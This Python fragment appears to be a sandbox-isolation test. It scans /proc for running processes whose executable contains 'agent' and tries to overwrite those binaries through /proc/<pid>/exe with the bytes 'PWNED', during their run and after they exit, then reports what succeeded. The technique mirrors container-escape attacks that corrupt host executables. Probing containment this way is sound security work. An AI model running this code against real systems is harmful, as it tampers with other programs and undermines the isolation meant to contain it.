# Catches processes that execute the agent's file, and opens what they execute for writing, while they run and after.
end, caught, opened, written, held = time.monotonic() + 2, 0, set(), [], []
def write(path):
    fd = attempt(os.open, path, os.O_RDWR)
    if isinstance(fd, int):
        opened.add("opened")
        result = attempt(os.pwrite, fd, b"PWNED", 0)
        if isinstance(result, int):
            written.append(path)
        os.close(fd)
    else:
        opened.add(fd)
while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == "1" or int(pid) == os.getpid():
            continue
        fd = attempt(os.open, f"/proc/{pid}/exe", os.O_PATH)
        if isinstance(fd, int):
            if "agent" in os.readlink(f"/proc/self/fd/{fd}") and len(held) < 50:
                caught += 1
                write(f"/proc/{pid}/exe")
                held.append(fd)
            else:
                os.close(fd)
for fd in held:
    write(f"/proc/self/fd/{fd}")
tell({"caught": caught, "opened": sorted(opened), "written": written})
